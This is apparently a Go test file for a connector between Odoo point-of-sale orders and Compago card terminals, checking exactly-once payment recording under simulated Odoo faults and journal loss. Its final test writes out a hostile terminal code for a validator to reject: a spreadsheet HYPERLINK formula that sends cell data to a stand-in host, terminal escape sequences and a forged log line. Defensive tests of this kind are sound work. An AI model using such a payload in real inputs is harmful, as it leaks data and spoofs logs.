package connector_test

import (
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/compago-odoo/connector/compago"
	"github.com/compago-odoo/connector/connector"
	"github.com/compago-odoo/connector/connector/journal"
	"github.com/compago-odoo/connector/connector/simworld"
	"github.com/compago-odoo/connector/odoo/odoosim"
)

// The exactly-once tests: each puts Odoo, or a proxy in front of it,
// between the daemon and the truth (an answer lost after Odoo committed, a
// call Odoo applies after the daemon gave up), lets a cashier act during
// the recording, or loses the journal, and checks what the cashier and
// the back office then see: one payment line per charged card, and no
// "paid" on an order that is not paid.

// pendingOrder creates an order of amount pesos, flags it for a card on
// TERMINAL-001 and waits until the cashier sees it pending.
func (w *world) pendingOrder(amount float64, vals map[string]any) int64 {
	w.T.Helper()
	id := w.NewOrder(amount, nil)
	flag := map[string]any{"x_compago_state": "requested", "x_compago_terminal": "TERMINAL-001"}
	for k, v := range vals {
		flag[k] = v
	}
	w.Flag(id, flag)
	w.WaitState(id, connector.StatePending)
	return id
}

func (w *world) approve(terminal string) {
	w.T.Helper()
	if _, err := w.Compago.ApproveTerminal(terminal); err != nil {
		w.T.Fatal(err)
	}
}

func (w *world) arm(f odoosim.CallFault) {
	w.T.Helper()
	if err := w.Odoo.AddCallFault(f); err != nil {
		w.T.Fatal(err)
	}
}

// waitMessage waits until the cashier's sentence on the order contains
// part, and returns the order.
func (w *world) waitMessage(orderID int64, part string) map[string]any {
	w.T.Helper()
	var o map[string]any
	w.WaitFor(fmt.Sprintf("order %d saying %q", orderID, part), func() bool {
		o = w.Order(orderID)
		msg, _ := o["x_compago_message"].(string)
		return strings.Contains(msg, part)
	})
	return o
}

func (w *world) waitLines(orderID int64, n int) {
	w.T.Helper()
	w.WaitFor(fmt.Sprintf("order %d with %d payment lines", orderID, n), func() bool {
		return len(w.Payments(orderID)) == n
	})
}

// checkPaidOnce is what the back office must see of a fully paid order.
func (w *world) checkPaidOnce(orderID int64, amount float64) {
	w.T.Helper()
	o := w.WaitState(orderID, connector.StatePaid)
	if lines := w.Payments(orderID); len(lines) != 1 {
		w.T.Errorf("order %d has %d payment lines, want 1: %v", orderID, len(lines), lines)
	}
	if got := simworld.Float(o["amount_paid"]); got != amount {
		w.T.Errorf("order %d amount_paid = %v, want %v", orderID, got, amount)
	}
	if o["state"] != "paid" {
		w.T.Errorf("order %d state = %v, want paid", orderID, o["state"])
	}
	w.CheckInvariants()
}

// Case 1: the completion's answer is lost (502) after add_payment
// succeeded; the cashier sees that the card was charged (not "waiting for
// the card") and presses cancel anyway: still one line, the order paid.
func TestCancelWhileTheCompletionFailsKeepsOneLine(t *testing.T) {
	w := newWorld(t, worldOptions{})
	w.startDaemon(nil)
	id := w.pendingOrder(100, nil)
	w.arm(odoosim.CallFault{Model: "pos.make.payment", Method: "check", When: "before", Status: 502, Times: 3})
	w.approve("TERMINAL-001")
	w.waitLines(id, 1)
	w.waitMessage(id, "The card was charged 100.00 MXN")
	w.Flag(id, map[string]any{"x_compago_state": "cancel_requested"})
	w.checkPaidOnce(id, 100)
	if msg := w.Order(id)["x_compago_message"]; msg != "Paid 100.00 MXN by card." {
		t.Errorf("cashier reads %q", msg)
	}
}

// Case 1, the other way: add_payment's own answer is lost (Odoo committed,
// the proxy said 504) and the cashier cancels while the daemon retries.
func TestCancelAfterALostAddPaymentAnswerKeepsOneLine(t *testing.T) {
	for _, version := range []int{18, 19} {
		t.Run(fmt.Sprintf("odoo%d", version), func(t *testing.T) {
			w := newWorld(t, worldOptions{version: version})
			w.startDaemon(nil)
			id := w.pendingOrder(100, nil)
			w.arm(odoosim.CallFault{Model: "pos.order", Method: "add_payment", When: "after", Status: 504})
			w.arm(odoosim.CallFault{Model: "pos.make.payment", Method: "check", When: "before", Status: 502, Times: 2})
			w.approve("TERMINAL-001")
			w.waitLines(id, 1)
			w.Flag(id, map[string]any{"x_compago_state": "cancel_requested"})
			w.checkPaidOnce(id, 100)
		})
	}
}

// Case 2: Odoo applies add_payment after the daemon gave up on it (a row
// lock held elsewhere, a slow worker). A lookup then finds nothing, yet
// the call commits later: the daemon must not add a second line.
func TestAddPaymentCommittingAfterTheTimeoutKeepsOneLine(t *testing.T) {
	for _, version := range []int{17, 18, 19} {
		t.Run(fmt.Sprintf("odoo%d", version), func(t *testing.T) {
			w := newWorld(t, worldOptions{version: version})
			w.startDaemon(func(c *connector.Config) {
				c.OdooTimeout = 300 * time.Millisecond
				c.LateCommitWindow = 3 * time.Second
			})
			id := w.pendingOrder(100, nil)
			w.arm(odoosim.CallFault{Model: "pos.order", Method: "add_payment", When: "late"})
			w.approve("TERMINAL-001")
			simworld.WaitFor(t, "add_payment held by Odoo", func() bool { return w.Odoo.Holding() == 1 })
			w.waitMessage(id, "The card was charged 100.00 MXN")
			if version >= 19 {
				// The uuid guard lets the daemon add again at once; the
				// held call then meets Odoo's unique constraint.
				w.waitLines(id, 1)
			} else {
				// Give the daemon time to retry past its 300 ms timeout:
				// it must wait for the lost call instead.
				time.Sleep(time.Second)
				if n := len(w.Payments(id)); n != 0 {
					t.Fatalf("a second add_payment was sent while the first may still commit: %d lines", n)
				}
			}
			w.Odoo.ReleaseHeld()
			w.checkPaidOnce(id, 100)
		})
	}
}

// Case 2, the proxy that answers 502 and applies nothing: on 17/18 the
// daemon adds the payment once the lost call can no longer commit.
func TestAddPaymentThatNeverCommittedIsAddedAfterTheWindow(t *testing.T) {
	w := newWorld(t, worldOptions{version: 17})
	w.startDaemon(func(c *connector.Config) { c.LateCommitWindow = time.Second })
	id := w.pendingOrder(100, nil)
	w.arm(odoosim.CallFault{Model: "pos.order", Method: "add_payment", When: "before", Status: 502})
	w.approve("TERMINAL-001")
	w.checkPaidOnce(id, 100)
}

// copyJournal copies the SQLite journal files (the daemon stopped).
func copyJournal(t *testing.T, from, to string) {
	t.Helper()
	for _, suffix := range []string{"", "-wal", "-shm"} {
		src, err := os.Open(from + suffix)
		if os.IsNotExist(err) {
			os.Remove(to + suffix)
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		dst, err := os.Create(to + suffix)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(dst, src); err != nil {
			t.Fatal(err)
		}
		src.Close()
		dst.Close()
	}
}

// Case 3: a journal restored from a backup taken while the card was
// pending knows nothing of the line added since: no second line, and no
// false alarm on a fully paid order.
func TestJournalRestoredFromBackupRecordsNothingTwice(t *testing.T) {
	for _, tc := range []struct {
		name   string
		amount float64 // x_compago_amount; the order is 100
		state  string
		msg    string
	}{
		{"partial", 60, connector.StatePartiallyPaid, "Paid 60.00 MXN by card; 40.00 MXN is still due."},
		{"full", 100, connector.StatePaid, "Paid 100.00 MXN by card."},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t, worldOptions{})
			d := w.startDaemon(nil)
			id := w.pendingOrder(100, map[string]any{"x_compago_amount": tc.amount})
			d.stop()
			backup := filepath.Join(t.TempDir(), "backup.db")
			copyJournal(t, w.JournalPath, backup)

			d = w.startDaemon(nil)
			w.approve("TERMINAL-001")
			w.waitLines(id, 1)
			w.WaitState(id, tc.state)
			d.stop()

			copyJournal(t, backup, w.JournalPath)
			d = w.startDaemon(nil)
			w.waitMessage(id, tc.msg)
			a, err := d.journal.Latest(context.Background(), id)
			if err != nil {
				t.Fatal(err)
			}
			simworld.WaitFor(t, "the restored attempt recorded", func() bool {
				a, err = d.journal.Latest(context.Background(), id)
				return err == nil && a.State == journal.Recorded
			})
			if a.Attention {
				t.Errorf("restored attempt parked for attention although its line is in Odoo: %+v", a)
			}
			if lines := w.Payments(id); len(lines) != 1 {
				t.Errorf("order has %d payment lines after the restore, want 1", len(lines))
			}
			if paid := simworld.Float(w.Order(id)["amount_paid"]); paid != tc.amount {
				t.Errorf("amount_paid = %v, want %v", paid, tc.amount)
			}
			w.CheckInvariants()
		})
	}
}

// waitParked waits until the order's attempt is parked for a human, and
// checks the cashier was not told "paid" and no line was added.
func (w *world) waitParked(d *daemon, orderID int64, part string) {
	w.T.Helper()
	simworld.WaitFor(w.T, "the charge parked for attention", func() bool {
		a, err := d.journal.Latest(context.Background(), orderID)
		return err == nil && a.Attention && a.State == journal.Confirmed
	})
	o := w.waitMessage(orderID, part)
	if o["x_compago_state"] == connector.StatePaid {
		w.T.Errorf("order %d shows paid although the charge could not be recorded: %v", orderID, o)
	}
}

// Case 4: the order changes under a pending card (total lowered, part paid
// in cash): the charge is parked for a human, no line is added over what
// is due and the cashier is not told "paid".
func TestOrderChangedUnderAPendingCardIsParked(t *testing.T) {
	for _, tc := range []struct {
		name   string
		change func(w *world, id int64)
	}{
		{"total lowered", func(w *world, id int64) {
			w.Exec("pos.order", "write", []any{[]any{id}, map[string]any{"amount_total": 60.0}}, nil)
		}},
		{"part paid in cash", func(w *world, id int64) {
			w.Exec("pos.order", "add_payment", []any{[]any{id}, map[string]any{
				"pos_order_id": id, "amount": 40.0, "payment_method_id": w.Seed.CashPaymentMethodID}}, nil)
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t, worldOptions{})
			d := w.startDaemon(nil)
			id := w.pendingOrder(100, nil)
			tc.change(w, id)
			w.approve("TERMINAL-001")
			w.waitParked(d, id, "the order changed while the card was being charged")
			for _, p := range w.Payments(id) {
				if p["transaction_id"] != false && p["transaction_id"] != "" {
					t.Errorf("a card line was added to the changed order: %v", p)
				}
			}
		})
	}
}

// Case 4: the wizard answers with its own form (Odoo does not find the
// order paid): that is not a completion, and the cashier is told so.
func TestWizardFormAgainIsNotACompletion(t *testing.T) {
	w := newWorld(t, worldOptions{})
	d := w.startDaemon(nil)
	id := w.pendingOrder(100, nil)
	w.arm(odoosim.CallFault{Model: "pos.make.payment", Method: "check", When: "late"})
	w.approve("TERMINAL-001")
	simworld.WaitFor(t, "the completion held by Odoo", func() bool { return w.Odoo.Holding() == 1 })
	// The total grows before Odoo runs the completion.
	w.Exec("pos.order", "write", []any{[]any{id}, map[string]any{"amount_total": 150.0}}, nil)
	w.Odoo.ReleaseHeld()
	simworld.WaitFor(t, "the incomplete order parked", func() bool {
		a, err := d.journal.Latest(context.Background(), id)
		return err == nil && a.Attention
	})
	o := w.waitMessage(id, "Odoo did not complete the order")
	if o["x_compago_state"] == connector.StatePaid || o["state"] != "draft" {
		t.Errorf("cashier sees %v / order %v, want not paid and still draft", o["x_compago_state"], o["state"])
	}
	w.CheckInvariants() // the one line of the charge is there
}

// Case 4: an order paid another way while its card is pending: the intent
// is withdrawn from the terminal, so a later tap charges nothing.
func TestOrderPaidOtherwiseWithdrawsThePendingIntent(t *testing.T) {
	w := newWorld(t, worldOptions{})
	w.startDaemon(nil)
	id := w.pendingOrder(100, nil)
	intent := w.intentOf(id)
	w.Exec("pos.order", "add_payment", []any{[]any{id}, map[string]any{
		"pos_order_id": id, "amount": 100.0, "payment_method_id": w.Seed.CashPaymentMethodID}}, nil)
	w.Exec("pos.order", "action_pos_order_paid", []any{[]any{id}}, nil)
	simworld.WaitFor(t, "the intent withdrawn at Compago", func() bool {
		for _, in := range w.Compago.Intents() {
			if in.ID == intent.ID {
				return in.Status == string(compago.StatusCancelled)
			}
		}
		return false
	})
	if _, err := w.Compago.ApproveTerminal("TERMINAL-001"); err == nil {
		t.Errorf("a tap on the terminal still charged a card for the paid order")
	}
	w.WaitState(id, connector.StateCancelled)
	w.CheckInvariants()
}

// Case 5: a POS created after the daemon started, with Compago allowed, is
// paid (the allowed POS are read again); a POS where Compago is not
// allowed is refused before any card is charged.
func TestPaymentMethodAllowedInANewPOS(t *testing.T) {
	w := newWorld(t, worldOptions{})
	w.startDaemon(nil)
	first := w.pendingOrder(10, nil)
	w.approve("TERMINAL-001")
	w.WaitState(first, connector.StatePaid)

	newPOS := func(name string, methods []any) int64 {
		cfg := simworld.ID(t, w.Exec("pos.config", "create", []any{map[string]any{
			"name": name, "payment_method_ids": []any{[]any{6, 0, methods}}}}, nil))
		sess := simworld.ID(t, w.Exec("pos.session", "create", []any{map[string]any{
			"config_id": cfg, "state": "opened", "start_at": time.Now().UTC().Format("2006-01-02 15:04:05")}}, nil))
		return sess
	}
	bar := newPOS("Bar", []any{w.Seed.CashPaymentMethodID, w.Seed.PaymentMethodID})
	id := w.NewOrder(55, map[string]any{"session_id": bar})
	w.Flag(id, map[string]any{"x_compago_state": "requested", "x_compago_terminal": "TERMINAL-002"})
	w.WaitState(id, connector.StatePending)
	w.approve("TERMINAL-002")
	w.checkPaidOnce(id, 55)

	kiosk := newPOS("Kiosk", []any{w.Seed.CashPaymentMethodID})
	before := len(w.Compago.Intents())
	id = w.NewOrder(30, map[string]any{"session_id": kiosk})
	w.Flag(id, map[string]any{"x_compago_state": "requested", "x_compago_terminal": "TERMINAL-003"})
	o := w.WaitState(id, connector.StateFailed)
	if msg, _ := o["x_compago_message"].(string); !strings.Contains(msg, `not a payment method of POS "Kiosk"`) {
		t.Errorf("cashier reads %q", msg)
	}
	if after := len(w.Compago.Intents()); after != before {
		t.Errorf("an intent was created for a POS where Compago is not allowed")
	}
}

// Case 6: with the journal lost, a new request of an order continues the
// numbering Odoo shows, instead of meeting Compago's existing externalId.
func TestLostJournalDoesNotReuseAnExternalID(t *testing.T) {
	w := newWorld(t, worldOptions{})
	d := w.startDaemon(nil)
	id := w.pendingOrder(100, nil)
	w.Flag(id, map[string]any{"x_compago_state": "cancel_requested"})
	w.WaitState(id, connector.StateCancelled)
	d.stop()
	for _, suffix := range []string{"", "-wal", "-shm"} {
		os.Remove(w.JournalPath + suffix)
	}
	w.startDaemon(nil)
	w.Flag(id, map[string]any{"x_compago_state": "requested"})
	o := w.WaitState(id, connector.StatePending)
	if want := fmt.Sprintf("sandbox-%d-2", id); o["x_compago_external_id"] != want {
		t.Errorf("externalId after the journal was lost = %v, want %s; cashier reads %q", o["x_compago_external_id"], want, o["x_compago_message"])
	}
	w.approve("TERMINAL-001")
	w.checkPaidOnce(id, 100)
}

// A terminal code written by hand with a spreadsheet formula and terminal
// escape sequences is refused before anything is journaled or sent.
func TestHostileTerminalCodeIsRefusedBeforeTheWriteAhead(t *testing.T) {
	w := newWorld(t, worldOptions{})
	d := w.startDaemon(nil)
	id := w.NewOrder(50, nil)
	w.Flag(id, map[string]any{"x_compago_state": "requested",
		"x_compago_terminal": "=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"ok\")\x1b[2J\x1b]0;pwned\a\nFAKE  LINE  recorded"})
	o := w.WaitState(id, connector.StateFailed)
	if msg, _ := o["x_compago_message"].(string); !strings.Contains(msg, "not a Compago terminal serial") {
		t.Errorf("cashier reads %q", msg)
	}
	if _, err := d.journal.Latest(context.Background(), id); err == nil {
		t.Errorf("the hostile terminal code was journaled")
	}
	if n := len(w.Compago.Intents()); n != 0 {
		t.Errorf("%d intents created for a hostile terminal code", n)
	}
}
